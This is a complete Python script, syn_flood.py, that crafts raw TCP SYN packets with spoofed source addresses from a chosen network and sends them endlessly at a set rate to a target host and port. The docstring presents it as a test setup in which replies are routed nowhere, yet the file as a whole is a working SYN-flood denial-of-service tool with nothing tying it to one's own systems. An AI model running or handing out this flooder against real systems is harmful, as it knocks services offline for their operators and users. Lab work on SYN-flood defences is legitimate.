"""Sends TCP SYNs whose sources do not exist: `syn_flood.py TO:PORT FORGED_NETWORK PER_SECOND`.

Needs CAP_NET_RAW. The answers must lead nowhere: route the forged network to a host that has none
of its addresses.
"""

from __future__ import annotations

import random
import socket
import struct
import sys
import time
from ipaddress import ip_network


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(source: bytes, target: bytes, port: int, rng: random.Random) -> bytes:
    """An IPv4 packet; the kernel fills in its length and its checksum."""
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    fields = rng.randrange(1024, 65536), port, rng.getrandbits(32), 0, 5 << 4, 2, 64240
    tcp = struct.pack("!HHIIBBHHH", *fields, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    return ip + struct.pack("!HHIIBBHHH", *fields, checksum(pseudo + tcp), 0)


def main() -> None:
    to, forged, per_second = sys.argv[1:]
    host, port = to.rsplit(":", 1)
    target, rng = socket.inet_aton(host), random.Random(1)
    network = ip_network(forged)
    first, count = int(network.network_address), network.num_addresses
    packets = [
        syn(struct.pack("!I", first + rng.randrange(count)), target, int(port), rng)
        for _ in range(65536)
    ]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        begun, sent = time.monotonic(), 0
        while True:
            due = int((time.monotonic() - begun) * int(per_second))
            # What could not be sent in time is not sent later at once.
            sent = max(sent, due - int(per_second) // 10)
            while sent < due:
                raw.sendto(packets[sent % len(packets)], (host, 0))
                sent += 1
            time.sleep(0.001)


if __name__ == "__main__":
    main()
